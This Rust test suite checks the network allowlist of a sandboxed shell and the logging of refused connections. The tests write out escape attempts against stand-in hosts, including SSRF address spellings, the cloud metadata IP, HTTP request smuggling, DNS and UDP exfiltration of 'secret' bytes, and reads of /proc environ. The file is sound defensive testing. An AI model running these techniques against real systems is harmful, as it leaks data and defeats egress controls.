//! The network: allowed hosts are reached by every program and in every way, and nothing else is, by what the servers
//! received. ESCAPES.md, section 5.

use crate::net::{Outside, has_programs};
use crate::world::{World, each};

/// Runs a check as each user, with servers and these user settings.
fn online(settings: &str, check: impl Fn(&World, &Outside)) {
    if !has_programs() {
        return;
    }
    each(|world| {
        world.user_settings(settings);
        check(world, &Outside::new(world));
    });
}

const GOOD: &str = r#"{"sandbox": {"allowedDomains": ["good.test", "*.good.test", "bücher.test"]}}"#;

#[test]
fn programs_that_know_nothing_of_proxies_reach_allowed_hosts() {
    online(GOOD, |world, outside| {
        let ran = outside.run(
            world,
            "curl -sS --cacert $CA https://good.test/a; curl -sS http://www.good.test/b
             curl -sS http://GOOD.test./c; curl -sS --http1.0 http://good.test/d; curl -sS http://xn--bcher-kva.test/e
             env | grep -ci _proxy",
        );
        let expected = "https GET /a host=good.test body=0\nhttp GET /b host=www.good.test body=0\n\
                        http GET /c host=good.test body=0\nhttp GET /d host=good.test body=0\n\
                        http GET /e host=xn--bcher-kva.test body=0\n0\n";
        assert_eq!((ran.stdout.as_str(), ran.stderr.as_str()), (expected, ""));
    });
}

#[test]
fn a_refused_connection_fails_at_once_and_says_what_helps() {
    online(GOOD, |world, outside| {
        let ran = outside.run(world, "curl -sS http://evil.test/x");
        assert!(ran.stdout.contains("evil.test:80 is blocked"), "{ran:?}");
        assert!(ran.stderr.contains("sbshctl allow domain evil.test"), "{ran:?}");
        let ran = outside.run(world, "curl -sS --cacert $CA https://evil.test/x");
        assert!(ran.stderr.contains("alert access denied"), "{ran:?}");
        assert!(ran.stderr.contains("sbsh: network: evil.test:443 is blocked"), "{ran:?}");
        let ran = outside.run(world, "curl -sS -x http://127.0.0.1:28128 https://evil.test/x");
        assert!(ran.stderr.contains("403"), "{ran:?}");
        let ran = outside.run(world, "curl -sS -x socks5h://127.0.0.1:28080 https://evil.test/x");
        assert_eq!(ran.status, Some(97), "{ran:?}");
        assert!(!outside.received().contains("203.0.113.66"), "{}", outside.received());
    });
}

#[test]
fn explicit_proxies_work_beside() {
    online(GOOD, |world, outside| {
        let ran = outside.run(
            world,
            "for proxy in http://127.0.0.1:28128 socks5h://127.0.0.1:28080 socks4a://127.0.0.1:28080; do
                 curl -sS -x $proxy --cacert $CA https://good.test/s; curl -sS -x $proxy http://good.test:8080/p
             done",
        );
        let pair = "https GET /s host=good.test body=0\nhttp GET /p host=good.test:8080 body=0\n";
        assert_eq!((ran.stdout.as_str(), ran.stderr.as_str()), (pair.repeat(3).as_str(), ""));
    });
}

/// Python inside, with a helper that sends bytes and gives what came back.
const TALK: &str = r#"
import socket, struct, sys
def talk(data, host="good.test", port=80, via=None):
    s = socket.create_connection(via or (host, port), 5)
    s.settimeout(3)
    out = b""
    for part in data if isinstance(data, list) else [data]:
        s.sendall(part)
        try:
            out += s.recv(65536)
        except (TimeoutError, ConnectionError) as e:
            out += type(e).__name__.encode()
    return out
"#;

fn python(outside: &Outside, world: &World, program: &str) -> crate::world::Ran {
    let text = format!("python3 - <<'PY'\n{TALK}\n{program}\nPY");
    outside.run(world, &text)
}

#[test]
fn no_spelling_and_no_suffix_reaches_a_host_that_is_not_allowed() {
    online(GOOD, |world, outside| {
        let ran = outside.run(
            world,
            r#"for url in http://evilgood.test http://good.test.evil.test http://203.0.113.66 http://0xcb007142 \
                   http://3405803842 http://0313.0.0161.0102 'http://[::ffff:203.0.113.66]' http://good.test@evil.test \
                   http://private.test http://10.9.9.9 http://169.254.169.254/latest http://2852039166 http://loop.test \
                   http://203.0.113.66:4444 https://203.0.113.66 http://zero.test http://meta.test; do
                   for proxy in '' http://127.0.0.1:28128 socks5h://127.0.0.1:28080 socks5://127.0.0.1:28080; do
                       curl -gsS -m 3 ${proxy:+-x} $proxy "$url" >/dev/null 2>&1
                   done
               done"#,
        );
        assert!(ran.stderr.contains("blocked"), "{ran:?}");
        let received = outside.received();
        for place in ["203.0.113.66", "10.9.9.9", "169.254", "127.0.0.1", "http "] {
            assert!(!received.contains(place), "{place}: {received}");
        }
    });
}

#[test]
fn an_allowed_name_that_leads_home_is_refused() {
    let settings =
        r#"{"sandbox": {"allowedDomains": ["loop.test", "private.test", "meta.test", "zero.test"]}}"#;
    online(settings, |world, outside| {
        let ran = outside.run(
            world,
            "for host in loop.test private.test meta.test zero.test; do
                 curl -sS -m 5 http://$host/; curl -sS -m 5 -x http://127.0.0.1:28128 http://$host:4444/
                 curl -sS -m 5 -x socks5h://127.0.0.1:28080 http://$host:5432/
             done",
        );
        assert!(ran.stdout.contains("blocked") && ran.stderr.contains("private"), "{ran:?}");
        assert!(!outside.received().contains("tcp "), "{}", outside.received());
    });
}

#[test]
fn the_name_in_tls_and_http_must_be_the_one_that_was_decided_on() {
    online(GOOD, |world, outside| {
        let ran = python(
            outside,
            world,
            r#"
import ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
for name in ["other.test", "evil.test", None]:
    try:
        s = context.wrap_socket(socket.create_connection(("good.test", 443), 5), server_hostname=name)
        print("reached", s.version())
    except (ssl.SSLError, ConnectionError) as e:
        print("refused")
print(talk(b"GET /1 HTTP/1.1\r\nHost: other.test\r\n\r\n").split(b"\r\n")[0].decode())
print(talk(b"GET http://other.test/2 HTTP/1.1\r\nHost: good.test\r\n\r\n").split(b"\r\n")[0].decode())
print(talk(b"GET /3 HTTP/1.1\r\nHost: good.test\r\nHost: other.test\r\n\r\n").split(b"\r\n")[0].decode())
print(talk(b"\r\n\r\nget /4 http/1.1\r\nhost: other.test\r\n\r\n").split(b"\r\n")[0].decode())
print(talk(b"GET /5 HTTP/1.1\r\nHost: other.test\r\n\r\n", port=8080).split(b"\r\n")[0].decode())
two = talk([b"GET /6 HTTP/1.1\r\nHost: good.test\r\n\r\n", b"GET /7 HTTP/1.1\r\nHost: other.test\r\n\r\n"])
print(two.count(b"200 OK"), two.count(b"403"))
print(talk(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n", port=7000).split(b"\r\n")[0].decode())
print(talk(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", port=7000)[:20])
smuggled = b"POST /8 HTTP/1.1\r\nHost: good.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /9 HTTP/1.1\r\nHost: other.test\r\n\r\n"
talk(smuggled)
via = ("127.0.0.1", 28128)
print(talk([b"CONNECT good.test:80 HTTP/1.1\r\n\r\n", b"GET /10 HTTP/1.1\r\nHost: other.test\r\n\r\n"], via=via).count(b"403"))
two = talk([b"GET http://good.test/11 HTTP/1.1\r\nHost: x\r\n\r\n", b"GET http://other.test/12 HTTP/1.1\r\nHost: good.test\r\n\r\n"], via=via)
print(two.count(b"200 OK"), two.count(b"403"))
"#,
        );
        let lines: Vec<&str> = ran.stdout.lines().collect();
        assert_eq!(lines[..3], ["refused"; 3], "{ran:?}");
        for line in &lines[3..8] {
            assert!(line.contains("403") || line.contains("400"), "{ran:?}");
        }
        assert_eq!(lines[8], "1 1", "{ran:?}");
        assert!(lines[9].contains("403"), "{ran:?}");
        assert_eq!(lines[11], "1", "{ran:?}");
        assert_eq!(lines[12], "1 1", "{ran:?}");
        let received = outside.received();
        for forbidden in [
            "other.test",
            "evil.test",
            "sni None",
            "/1 ",
            "/2 ",
            "/3 ",
            "/4 ",
            "/5 ",
            "/7 ",
            "/9 ",
            "/10 ",
            "/12 ",
        ] {
            assert!(!received.contains(forbidden), "{forbidden}: {received}");
        }
        assert!(received.contains("GET /11 HTTP/1.1 host=good.test"), "{received}");
    });
}

#[test]
fn other_protocols_pass_and_whoever_speaks_first_may() {
    online(GOOD, |world, outside| {
        let ran = python(
            outside,
            world,
            r#"
print(talk(b"SSH-2.0-x\r\n", port=7000))
print(talk(bytes(range(200)), port=7000) == bytes(range(200)))
s = socket.create_connection(("good.test", 7001), 5); s.settimeout(5)
print(s.recv(100)); s.sendall(b"EHLO me\r\n"); print(s.recv(100))
for port in (7003, 7004):
    try:
        print(port, len(talk(b"\0hello", port=port)) > 0)
    except OSError as e:
        print(port, "failed")
s = socket.create_connection(("good.test", 80), 5)
s.sendall(b"GET /ws HTTP/1.1\r\nHost: good.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n\r\n")
data = b""
while not data.endswith(b"early"): data += s.recv(1000)
s.sendall(b"\x81\x02hi"); print(data.split(b"\r\n")[0].decode(), s.recv(100))
print(talk(b"POST /c HTTP/1.1\r\nHost: good.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n").split(b"\n")[-2].decode())
"#,
        );
        let expected = "b'SSH-2.0-x\\r\\n'\nTrue\nb'220 hello\\r\\n'\nb'EHLO me\\r\\n'\n7003 True\n7004 True\n\
                        HTTP/1.1 101 Switching Protocols b'\\x81\\x02hi'\nhttp POST /c host=good.test body=5\n";
        assert_eq!(ran.stdout, expected, "{ran:?}");
        assert!(ran.stderr.contains("good.test:7003 cannot be reached") || ran.stderr.is_empty(), "{ran:?}");
    });
}

#[test]
fn nothing_leaves_but_tcp_to_what_is_allowed() {
    online(GOOD, |world, outside| {
        let ran = python(
            outside,
            world,
            r#"
def attempt(name, act):
    try:
        act(); print(name, "sent")
    except OSError as e:
        print(name, "failed")
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"secret", (host, port))
for host in ("203.0.113.66", "203.0.113.10", "10.9.9.9"):
    for port in (53, 443, 4444):
        attempt("udp", lambda: udp(host, port))
def query(name, server="203.0.113.53"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    q = b"\1\2\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(p)]) + p for p in name.encode().split(b".")) + b"\0\0\1\0\1"
    s.sendto(q, (server, 53)); return s.recv(500)
query("secret.evil.test"); query("secret2.evil.test", "8.8.8.8"); socket.getaddrinfo("secret3.evil.test", 80)
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
attempt("unix", lambda: socket.socket(socket.AF_UNIX).connect("\0abstract"))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12))
attempt("multicast", lambda: udp("224.0.0.251", 5353))
for port in (22, 53, 443, 4444):
    try: talk(b"\x13secret", "203.0.113.66", port)
    except OSError: pass
"#,
        );
        for kind in ["raw", "packet", "vsock", "unix", "netlink"] {
            assert!(ran.stdout.contains(&format!("{kind} failed")), "{kind}: {ran:?}");
        }
        let received = outside.received();
        assert!(!received.contains("secret") && !received.contains("udp"), "{received}");
        assert!(!received.contains("203.0.113.66"), "{received}");
    });
}

#[test]
fn five_hundred_at_once_and_a_large_download_arrive_whole() {
    online(GOOD, |world, outside| {
        let ran = python(
            outside,
            world,
            r#"
import hashlib, resource, urllib.request
resource.setrlimit(resource.RLIMIT_NOFILE, (900, 900))
all = [socket.create_connection(("good.test", 7000), 10) for _ in range(500)]
for n, s in enumerate(all): s.sendall(b"\0%05d" % n)
print(sum(s.recv(6) == b"\0%05d" % n for n, s in enumerate(all)))
size, digest = 64 << 20, hashlib.sha256()
with urllib.request.urlopen("http://good.test/big/%d" % size) as reply:
    while part := reply.read(1 << 20): digest.update(part)
block = bytes(range(251)) * 4096
whole = hashlib.sha256(); left = size
while left: whole.update(block[:left]); left -= min(left, len(block))
print(digest.hexdigest() == whole.hexdigest())
"#,
        );
        assert_eq!((ran.stdout.as_str(), ran.stderr.as_str()), ("500\nTrue\n", ""));
    });
}

#[test]
fn what_was_sent_last_arrives_whole_though_the_server_takes_its_time() {
    online(GOOD, |world, outside| {
        let send = "import socket; s = socket.create_connection(('good.test', 7008)); s.sendall(bytes(12 << 20)); s.close()";
        let ran = python(outside, world, send);
        assert_eq!((ran.status, ran.stderr.as_str()), (Some(0), ""));
        while !outside.received().contains("slow ") {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        assert!(outside.received().contains(&format!("slow {} end", 12 << 20)), "{}", outside.received());
    });
}

#[test]
fn denied_beats_allowed_and_a_port_is_a_port() {
    let settings = r#"{"sandbox": {"allowedDomains": ["*.good.test", "good.test:8080", "203.0.113.66:4444"],
        "network": {"deniedDomains": ["www.good.test"], "strictAllowlist": true}}}"#;
    online(settings, |world, outside| {
        let ran = outside.run(
            world,
            "curl -sS http://www.good.test/1; curl -sS http://good.test:8080/2; curl -sS http://good.test/3
             curl -sS -m 2 telnet://203.0.113.66:4444 </dev/null; curl -sS -m 2 http://203.0.113.66/4",
        );
        assert!(ran.stdout.contains("www.good.test:80 is blocked: denied by 'www.good.test'"), "{ran:?}");
        assert!(ran.stdout.contains("GET /2") && !ran.stdout.contains("GET /3"), "{ran:?}");
        let received = outside.received();
        assert!(received.contains("tcp 203.0.113.66:4444 open"), "{received}");
        assert!(!received.contains("203.0.113.66:80") && !received.contains("/1 "), "{received}");
    });
}

#[test]
fn a_name_of_the_hosts_file_is_decided_on_as_a_name() {
    online(r#"{"sandbox": {"allowedDomains": ["listed.test"]}}"#, |world, outside| {
        let ran = outside.run(world, "curl -sS http://listed.test/1; curl -sS http://good.test/2");
        assert!(ran.stdout.contains("GET /1 host=listed.test"), "{ran:?}");
        assert!(ran.stdout.contains("good.test:80 is blocked"), "{ran:?}");
    });
}

#[test]
fn a_private_host_of_the_hosts_file_is_opened_by_its_name_and_its_address() {
    for address in ["10.9.9.9", "10.0.0.0/8"] {
        let settings = format!(
            r#"{{"sandbox": {{"allowedDomains": ["good.corp", "{address}"], "deniedDomains": ["evil.corp"]}}}}"#
        );
        online(&settings, |world, outside| {
            outside.add_to("hosts", "10.9.9.9 evil.corp good.corp good\n");
            let ran = outside.run(
                world,
                "for host in good.corp good 10.9.9.9 evil.corp; do curl -sS http://$host:8080/$host; done",
            );
            for host in ["good.corp", "good", "10.9.9.9"] {
                assert!(ran.stdout.contains(&format!("GET /{host} host={host}:8080 ")), "{ran:?}");
            }
            assert!(
                ran.stdout.contains("the program asked for 'evil.corp:8080' on this connection"),
                "{ran:?}"
            );
        });
    }
}

#[test]
fn names_are_reached_whatever_the_machine_completes_them_to() {
    let settings = r#"{"sandbox": {"allowedDomains": ["good.test", "foo.corp.test"]}}"#;
    online(settings, |world, outside| {
        outside.add_to("resolv.conf", "search corp.test svc.cluster.local\noptions ndots:5\n");
        let ran = outside.run(
            world,
            "curl -sS http://good.test/1; curl -sS http://foo/2; curl -sS http://foo.corp.test/3; curl -sS http://evil.test/4",
        );
        for got in ["GET /1 host=good.test", "GET /2 host=foo ", "GET /3 host=foo.corp.test"] {
            assert!(ran.stdout.contains(got), "{ran:?}");
        }
        assert!(ran.stderr.contains("sbsh: network: evil.test:80 is blocked"), "{ran:?}");
    });
}

#[test]
fn a_permission_given_meanwhile_holds_for_the_running_command() {
    online(r#"{"sandbox": {}}"#, |world, outside| {
        let file = world.home.join(".claude/settings.json");
        let text = format!(
            "curl -sS http://good.test/1; touch asked; for i in $(seq 400); do [ -e go ] && break; sleep 0.05; done; curl -sS http://good.test/2; ls -l {}",
            file.display()
        );
        let child = outside
            .command(world, &world.bin("sbsh"), &["-c", &text])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        for _ in 0..500 {
            if world.project.join("asked").exists() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let allowed = world.control(&["allow", "domain", "good.test", "--user"]);
        assert_eq!(allowed.status, Some(0), "{allowed:?}");
        std::fs::write(world.project.join("go"), "").unwrap();
        let ran: crate::world::Ran = child.wait_with_output().unwrap().into();
        assert!(ran.stdout.contains("good.test:80 is blocked") && ran.stdout.contains("GET /2"), "{ran:?}");
    });
}

#[test]
fn connections_are_logged_with_what_decided_and_what_passed() {
    online(GOOD, |world, outside| {
        outside.run(world, "curl -sS http://good.test/1; curl -sS http://evil.test/2");
        let log = std::fs::read_to_string(world.home.join(".local/state/sbsh/audit.jsonl")).unwrap();
        let lines: Vec<serde_json::Value> = log.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        let of = |host: &str| lines.iter().find(|line| line["host"] == host).unwrap();
        assert_eq!(of("good.test")["verdict"], "allowed");
        assert_eq!(of("good.test")["address"], "203.0.113.10");
        assert_eq!(of("good.test")["rule"], "good.test");
        assert!(of("good.test")["received"].as_u64().unwrap() > 10);
        assert_eq!(of("evil.test")["verdict"], "refused");
    });
}

#[test]
fn no_number_of_connections_keeps_others_out_of_the_log() {
    online(GOOD, |world, outside| {
        // So many that they would take every descriptor of the gateway, which the log needs too.
        let text = r#"python3 - <<'PY'
import socket, time
all = [socket.create_connection(("good.test", 7000), 20) for _ in range(40)]
for one in all: one.sendall(b"\0")
time.sleep(1)
PY"#;
        let sbsh = world.bin("sbsh").display().to_string();
        let arguments = ["--nofile=60:60", &sbsh, "-c", text];
        let ran: crate::world::Ran =
            outside.command(world, "prlimit".as_ref(), &arguments).output().unwrap().into();
        assert_eq!((ran.stdout.as_str(), ran.stderr.as_str()), ("", ""), "{ran:?}");
        let log = std::fs::read_to_string(world.home.join(".local/state/sbsh/audit.jsonl")).unwrap();
        let logged = log.lines().filter(|line| line.contains("\"good.test\"") && line.contains("7000"));
        assert_eq!(logged.count(), 40, "{log}");
    });
}

#[test]
fn names_that_are_none_are_logged_too() {
    online(GOOD, |world, outside| {
        let ran = python(
            outside,
            world,
            r#"
http, socks = ("127.0.0.1", 28128), ("127.0.0.1", 28080)
talk(b"CONNECT good.test\0.evil.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n", via=http)
talk(b"GET http://a_b%00.test/ HTTP/1.1\r\nHost: x\r\n\r\n", via=http)
for name in b"good.test\0.evil.test", b"good.test\n", b"\x1b[2J", b"\xff\xfe", b"":
    talk([b"\5\1\0", b"\5\1\0\3" + bytes([len(name)]) + name + b"\0\x50"], via=socks)
talk(b"\4\1\0\x50\0\0\0\1\0good test\0", via=socks)
"#,
        );
        assert_eq!(ran.status, Some(0), "{ran:?}");
        let log = std::fs::read_to_string(world.home.join(".local/state/sbsh/audit.jsonl")).unwrap();
        let lines = log.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
        let refused = lines.filter(|line| line["verdict"] == "refused" && line["port"].is_null());
        let hosts: Vec<String> = refused.map(|line| line["host"].as_str().unwrap().to_owned()).collect();
        let expected = [
            "good.test\\x00.evil.test:443",
            "a_b%00.test",
            "good.test\\x00.evil.test",
            "good.test\\n",
            "\\e[2J",
            "\\xff\\xfe",
            "",
            "good test",
        ];
        assert_eq!(hosts, expected, "{log}");
        assert_eq!(outside.received(), "");
    });
}

#[test]
fn a_job_that_lives_on_keeps_its_network() {
    online(GOOD, |world, outside| {
        outside.run(world, "(for i in $(seq 400); do [ -e go ] && break; sleep 0.05; done; curl -sS http://good.test/late > late) >/dev/null 2>&1 &");
        std::fs::write(world.project.join("go"), "").unwrap();
        let late = world.project.join("late");
        for _ in 0..200 {
            if std::fs::read_to_string(&late).is_ok_and(|text| text.contains("GET /late")) {
                return;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        panic!("{:?} {}", std::fs::read_to_string(&late), outside.received());
    });
}

#[test]
fn servers_inside_are_reached_inside_and_the_hosts_loopback_only_where_it_is_allowed() {
    let serve = "python3 -m http.server -b 127.0.0.1 3000 >/dev/null 2>&1 & for i in $(seq 200); do curl -s http://localhost:3000 >/dev/null && break; sleep 0.05; done; echo up";
    online(GOOD, |world, outside| {
        let ran = outside
            .run(world, &format!("{serve}; kill %1; printf x | curl -sS -m 2 telnet://127.0.0.1:5432"));
        assert!(ran.stdout.starts_with("up\n") && ran.stderr.contains("Couldn't connect"), "{ran:?}");
        assert!(!outside.received().contains("5432"), "{}", outside.received());
    });
    online(r#"{"sandbox": {"allowedDomains": ["localhost:5432"]}}"#, |world, outside| {
        let ran = python(
            outside,
            world,
            "print(talk(b'\\0hi', 'localhost', 5432))\ntry: print(talk(b'\\0hi', '127.0.0.1', 80))\nexcept OSError: print('failed')",
        );
        assert!(ran.stdout.starts_with("b'\\x00hi'\n"), "{ran:?}");
        let received = outside.received();
        assert!(received.contains("127.0.0.1:5432") && !received.contains("127.0.0.1:80"), "{received}");
    });
}

#[test]
fn the_hosts_loopback_is_reached_by_either_of_its_names() {
    for settings in [
        r#"{"sandbox": {"network": {"allowLocalBinding": true}}}"#,
        r#"{"sandbox": {"allowedDomains": ["localhost:3001", "127.0.0.1:3443"]}}"#,
    ] {
        online(settings, |world, outside| {
            let ran = outside.run(
                world,
                "curl -sS http://localhost:3001/1; curl -sS http://127.0.0.1:3001/2
                 curl -sSk https://localhost:3443/3; curl -sSk https://127.0.0.1:3443/4
                 curl -sS -x http://127.0.0.1:28128 http://localhost:3001/5
                 curl -sS -H 'Host: other.test' http://localhost:3001/6; curl -sS -H 'Host: localhost:80' http://localhost:3001/7
                 curl -sSk --connect-to other.test:443:localhost:3443 https://other.test/8",
            );
            let lines: Vec<&str> = ran.stdout.lines().filter(|line| !line.starts_with("sbsh: ")).collect();
            let expected = [
                "http GET /1 host=localhost:3001 body=0",
                "http GET /2 host=127.0.0.1:3001 body=0",
                "https GET /3 host=localhost:3443 body=0",
                "https GET /4 host=127.0.0.1:3443 body=0",
                "http GET /5 host=localhost:3001 body=0",
            ];
            assert_eq!(lines, expected, "{ran:?}");
            let received = outside.received();
            assert!(!["/6", "/7", "/8"].iter().any(|path| received.contains(path)), "{received}");
        });
    }
}

#[test]
fn an_upstream_proxy_carries_what_was_allowed_and_its_password_stays_outside() {
    online(GOOD, |world, outside| {
        let text = "curl -sS --cacert $CA https://good.test/1; curl -sS http://good.test/2; curl -sS http://evil.test/3; curl -sS -X TRACE http://good.test/4; curl -sS -H 'Max-Forwards: 0' -X TRACE -x http://127.0.0.1:28128 http://good.test/5; env; cat /proc/*/cmdline /proc/*/environ 2>/dev/null | tr '\\0' '\\n'";
        let ran: crate::world::Ran = outside
            .command(world, &world.bin("sbsh"), &["-c", text])
            .env("HTTPS_PROXY", "http://me:p%40ss@127.0.0.1:3128")
            .env("http_proxy", "http://me:p%40ss@127.0.0.1:3128")
            // What desktops and administrators set beside them.
            .env("ftp_proxy", "http://me:p%40ss@127.0.0.1:3128")
            .env("SOCKS_PROXY", "http://me:p%40ss@127.0.0.1:3128")
            .env("npm_config_https_proxy", "http://me:p%40ss@127.0.0.1:3128")
            .output()
            .unwrap()
            .into();
        assert!(ran.stdout.contains("https GET /1"), "{ran:?}");
        assert!(ran.stdout.contains("proxied http://good.test/2"), "{ran:?}");
        assert!(ran.stdout.contains("evil.test:80 is blocked"), "{ran:?}");
        assert!(!ran.stdout.contains("p%40ss") && !ran.stdout.contains("p@ss"), "{ran:?}");
        // As the proxy gets it.
        assert!(!ran.stdout.contains("bWU6cEBzcw"), "{ran:?}");
        let received = outside.received();
        assert!(
            received.contains("proxy CONNECT good.test:443") && !received.contains("evil.test"),
            "{received}"
        );
    });
}

#[test]
fn programs_that_ask_for_ipv4_where_it_is_configured_find_it() {
    online(GOOD, |world, outside| {
        let text = "import socket; found = socket.getaddrinfo('good.test', 80, socket.AF_INET, socket.SOCK_STREAM, 0, socket.AI_ADDRCONFIG)
s = socket.create_connection(found[0][4]); print(s.getsockname()[0] != '198.19.255.254')";
        let ran = python(outside, world, text);
        assert_eq!((ran.stdout.as_str(), ran.status), ("True\n", Some(0)), "{}", ran.stderr);
    });
}

#[test]
fn under_landlock_the_hosts_loopback_is_reached_without_a_word_of_complaint() {
    if sbsh::system::landlock::version().is_none() {
        return crate::world::not_here("this kernel has no Landlock");
    }
    let settings = r#"{"sandbox": {"backend": "landlock", "network": {"allowLocalBinding": true}}}"#;
    online(settings, |world, outside| {
        let ran = outside.run(world, "curl -sS http://127.0.0.1:3001/here");
        assert!(ran.stdout.contains("GET /here host=127.0.0.1:3001"), "{ran:?}");
        assert!(!ran.stderr.contains("not reachable from inside"), "{ran:?}");
    });
}

#[test]
fn under_landlock_a_second_connect_says_nothing_to_the_server() {
    if sbsh::system::landlock::version().is_none() {
        return crate::world::not_here("this kernel has no Landlock");
    }
    let settings = r#"{"sandbox": {"backend": "landlock", "allowedDomains": ["203.0.113.10"]}}"#;
    online(settings, |world, outside| {
        let text = "import errno, socket
s = socket.create_connection(('203.0.113.10', 7000), 60)
for place in ('203.0.113.10', 7000), ('203.0.113.66', 4444): print(errno.errorcode.get(s.connect_ex(place)))
s.setblocking(True); s.sendall(b'hello\\n'); s.shutdown(socket.SHUT_WR); print(s.makefile('rb').read())";
        let ran = python(outside, world, text);
        assert_eq!(ran.stdout, "EISCONN\nEISCONN\nb'hello\\n'\n", "{}", ran.stderr);
    });
}

#[test]
fn an_upstream_proxy_that_is_none_is_told_as_what_stands_in_the_way() {
    online(GOOD, |world, outside| {
        let mut command = outside.command(world, &world.bin("sbsh"), &["-c", "curl -sS http://good.test/"]);
        let ran: crate::world::Ran = command.env("HTTPS_PROXY", "ftp://proxy.test").output().unwrap().into();
        let why = "good.test:80 is blocked: HTTPS_PROXY is no proxy to use: its scheme is none of";
        assert!(ran.stdout.contains(why) && ran.stderr.contains(why), "{ran:?}");
        assert!(!ran.stderr.contains("allowedDomains") && ran.stderr.contains("put that right"), "{ran:?}");
    });
}

#[test]
fn programs_that_want_to_be_told_are_told() {
    let settings =
        r#"{"sandbox": {"allowedDomains": ["good.test"], "network": {"proxyVariables": "always"}}}"#;
    online(settings, |world, outside| {
        let ran = outside.run(
            world,
            "env | grep -c '^https_proxy=http://127.0.0.1:'; curl -sSv http://good.test/1 2>&1 | grep -c 'Connected to 127.0.0.1'
             curl -sS --cacert $CA https://good.test/2
             helper=$(printf '%s' \"$GIT_SSH_COMMAND\" | sed \"s/.*ProxyCommand='//; s/ %h %p'.*//\")
             printf '\\1hello' | $helper good.test 7000 | wc -c; $helper evil.test 7000",
        );
        let lines: Vec<&str> = ran.stdout.lines().collect();
        assert_eq!(lines, ["1", "1", "https GET /2 host=good.test body=0", "6"], "{ran:?}");
        assert!(ran.stderr.contains("cannot connect to evil.test:7000: sbsh does not allow it"), "{ran:?}");
    });
}

#[test]
fn an_askpass_program_allows_a_host_for_a_running_command() {
    online("{}", |world, outside| {
        let program = world.outside.join("askpass");
        world.write(&program, "#!/bin/sh\ncat > \"$0.asked\"\necho session\n");
        std::os::unix::fs::chown(&program, Some(world.user), Some(world.user)).unwrap();
        std::fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let ran: crate::world::Ran = outside
            .command(
                world,
                &world.bin("sbsh"),
                &["-c", "curl -sS http://good.test/1; curl -sS http://good.test/2"],
            )
            .env("SBSH_ASKPASS", &program)
            .output()
            .unwrap()
            .into();
        assert!(ran.stdout.contains("GET /1") && ran.stdout.contains("GET /2"), "{ran:?}");
        assert!(!ran.stderr.contains("blocked"), "{ran:?}");
        let asked = std::fs::read_to_string(world.outside.join("askpass.asked")).unwrap();
        let asked: serde_json::Value = serde_json::from_str(&asked).unwrap();
        assert_eq!(
            (&asked["kind"], &asked["host"], &asked["port"], &asked["program"]),
            (&"network".into(), &"good.test".into(), &80.into(), &"curl".into())
        );
    });
}

#[test]
fn a_file_that_an_answer_wrote_stays_and_one_that_a_command_wrote_does_not() {
    online("{}", |world, outside| {
        let local = world.project.join(".claude/settings.local.json");
        let program = world.outside.join("askpass");
        world.write(&program, "#!/bin/sh\ncat >/dev/null\necho always\n");
        std::fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let run = |text: &str| -> crate::world::Ran {
            let mut command = outside.command(world, &world.bin("sbsh"), &["-c", text]);
            command.env("SBSH_ASKPASS", &program).output().unwrap().into()
        };
        let ran = run("curl -sS http://good.test/1");
        assert!(ran.stdout.contains("GET /1"), "{ran:?}");
        let written = std::fs::read_to_string(&local).unwrap();
        assert!(written.contains("good.test"), "{written}");
        // It counts for the next command, which nobody is asked about.
        let ran = outside.run(world, "curl -sS http://good.test/2");
        assert!(ran.stdout.contains("GET /2"), "{ran:?}");
        // The same content, by a command, after the person took it away.
        std::fs::remove_file(&local).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(1100)); // times in the store are seconds
        outside.run(world, &format!("cat > .claude/settings.local.json <<'E'\n{written}E"));
        assert!(!local.exists());
    });
}
